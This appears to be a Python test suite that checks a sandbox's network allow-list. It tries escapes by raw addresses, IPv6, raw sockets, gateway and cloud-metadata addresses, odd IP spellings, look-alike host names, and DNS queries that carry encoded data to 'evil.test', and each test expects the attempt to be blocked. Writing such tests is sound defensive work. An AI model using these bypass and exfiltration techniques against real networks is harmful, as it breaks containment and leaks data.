# SPDX-License-Identifier: MIT
"""Attempts to get out of a network by list, from inside: by addresses, by other protocols, by
names that mean another place, by what is said on the way. A build from before knows of no such
list: there each of them gets out by the bridge, or the profile is refused."""
import outside


class Network(outside.Out):
    # Addresses

    def test_raw_address(self):
        """an address instead of a name, of a public server"""
        r = self.attempt("print(says(tcp, '93.184.216.34', 443), says(tcp, '1.1.1.1', 80))",
                         "addresses without a name (2)")
        self.assertIn("Network is unreachable", r.out)

    def test_loopback_address(self):
        """an address of the host's loopback, which in here is the container's own"""
        self.attempt(self.evils() + "print(says(get, EVIL), says(tls, tcp(EVIL, 443), 'evil.test'))",
                     "a connection has no name of the list")

    def test_listed_address(self):
        """the address of a listed server, without its name"""
        self.attempt(self.evils() + "print(says(get, GOOD, 'good.test'))", "has no name of the list")

    def test_ipv6(self):
        """version 6 of the protocol"""
        self.attempt("print(says(tcp, '2606:2800:220:1::1', 443), says(tcp, '::ffff:1.1.1.1', 443))",
                     "there is no way there")

    def test_other_ports(self):
        """another port of a listed host, directly and by the proxy"""
        self.attempt("print(says(tcp, 'good.test', 22), connect('good.test:22')[1])",
                     "good.test:22 is not on the list")

    def test_port_of_another(self):
        """a port that is listed of one host, at another"""
        self.attempt("print(says(read, tcp('www.good.test', 8022, 'hello')))",
                     "www.good.test:8022 is not on the list")

    def test_datagrams(self):
        """datagrams: QUIC, another name server, broadcast"""
        self.attempt("""
for to in ("1.1.1.1", 53), ("8.8.8.8", 443), ("10.0.0.1", 123):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print(says(s.sendto, b"x", to))
""", "addresses without a name (3)")

    def test_raw_sockets(self):
        """packets of one's own making, and other families of addresses"""
        r = self.attempt("""
print(says(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1))
print(says(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 3))
s = says(socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)
print(says(s.connect, (2, 22)) if isinstance(s, socket.socket) else s)
""")
        self.assertEqual(r.out.count("Error"), 3, r.out)

    def test_gateway(self):
        """the engine's gateway and the host's other addresses"""
        self.attempt("print([says(tcp, a, p, b'', 3) for a in ('172.17.0.1', '172.18.0.1', '10.88.0.1', "
                     "'192.168.1.1', '10.0.2.2') for p in (22, 80, 2375)])", "there is no way there")

    def test_metadata(self):
        """a cloud's metadata: by address, by the proxy, by a listed name that leads there"""
        self.attempt("""
print(says(tcp, "169.254.169.254", 80))
print(read(proxy("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n")))
print(get("meta.test"))
""", "169.254.169.254:80 is not on the list", "meta.test:80 leads to this machine or a private network",
                     "there is no way there", hosts=["meta.test"])

    def test_spellings(self):
        """addresses in octal, in hexadecimal, as one number, with a dot behind"""
        self.attempt(self.evils() + """
a, b, c, d = map(int, EVIL.split("."))
for way in ("0%o.%d.%d.%d" % (a, b, c, d), "0x%x.%d.%d.%d" % (a, b, c, d), "%d" % (a << 24 | b << 16 | c << 8 | d),
            "0x%x" % (a << 24 | b << 16 | c << 8 | d), "%d.%d.%d" % (a, b, c << 8 | d), EVIL + ".",
            "[::ffff:%s]" % EVIL, "[::1]", "0", "localhost", "127.1"):
    print(way, connect(way + ":80")[1].split("\\r")[0], connect(way + ":8022")[1].split("\\r")[0])
""", "localhost:80 is not on the list", "%s:8022 is not on the list" % self.evil)

    # Names

    def test_unlisted_name(self):
        """a name that is not listed: directly, by the proxy, in TLS"""
        self.attempt("""
print(says(get, "evil.test"), connect("evil.test:443")[1])
print(read(proxy("GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")))
""", "evil.test was looked up and is not on the list", "evil.test:443 is not", "evil.test:80 is not")

    def test_near_names(self):
        """names that a list could be taken to mean"""
        self.attempt("""
for name in ("good.test.evil.test", "evil.test#good.test", "agood.test", "x.good.test", "good.test@evil.test",
             "evil.test/good.test", "good.test%00.evil.test", "g\u043e\u043ed.test", "xn--good.test", "GOOD.TEST..",
             "good.test:80@evil.test", "user:pw@evil.test", "good.test\tevil.test"):
    print(name, connect(name + ":443")[1].split("\\r")[0])
    print(read(proxy(("GET http://%s/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n" % name).encode())).split("\\r")[0])
""", "agood.test:443 is not on the list", "good.test.evil.test:443 is not on the list")

    def test_case_and_dot(self):
        """a listed name in capitals and with its dot is that name, and no other"""
        self.attempt("print(get('GOOD.test.', 'Good.TEST'), connect('EVIL.TEST.:443')[1])",
                     "evil.test:443 is not on the list", reached=1)

    def test_leads_inside(self):
        """listed names that lead to the host's loopback or a private network"""
        self.attempt("""
print(get("inside.test"), get("private.test"), connect("inside.test:443")[1])
""", "inside.test:80 leads to this machine or a private network", "private.test:80 leads to this machine",
                     "inside.test:443 leads to this machine", hosts=["inside.test", "private.test"])

    def test_leads_to_other_port(self):
        """an address that is listed for one port is not for another"""
        self.attempt("print(connect('www.good.test:9999')[1])", "www.good.test:9999 leads to this machine",
                     hosts=["www.good.test:9999"])

    def test_data_in_names(self):
        """names that carry data, of every type, to a name server that would pass them on"""
        self.attempt("""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
def ask(name, kind):
    q = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\\0"
    s.sendto(q + struct.pack(">2H", kind, 1), ("127.0.0.53", 53))
    a = s.recv(600)
    return a[3] & 15, a[7]
for kind in 1, 28, 16, 15, 65, 255:
    print(ask(b"c2VjcmV0." * 3 + b"evil.test", kind), ask(b"good.test", kind), ask(b"\\x1b[31m.evil.test", kind))
""", "c2VjcmV0.c2VjcmV0.c2VjcmV0.evil.test was looked up and is not on the list")

    def test_broken_queries(self):
        """queries that are broken, compressed, endless: the name server answers on"""
        self.attempt("""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
head = struct.pack(">6H", 7, 256, 1, 0, 0, 0)
for q in (b"", b"x", head, head + b"\\xc0\\x0c\\0\\1\\0\\1", head + b"\\x3f", head + b"\\x01a" * 300, head + b"\\0" * 5,
          head + b"\\x01a\\0", b"\\xff" * 500, b"\\0" * 3000, head + b"\\x3f" + b"a" * 63 + b"\\0\\0\\1\\0\\1"):
    s.sendto(q, ("127.0.0.53", 53))
print(get("good.test"))
""", reached=1)
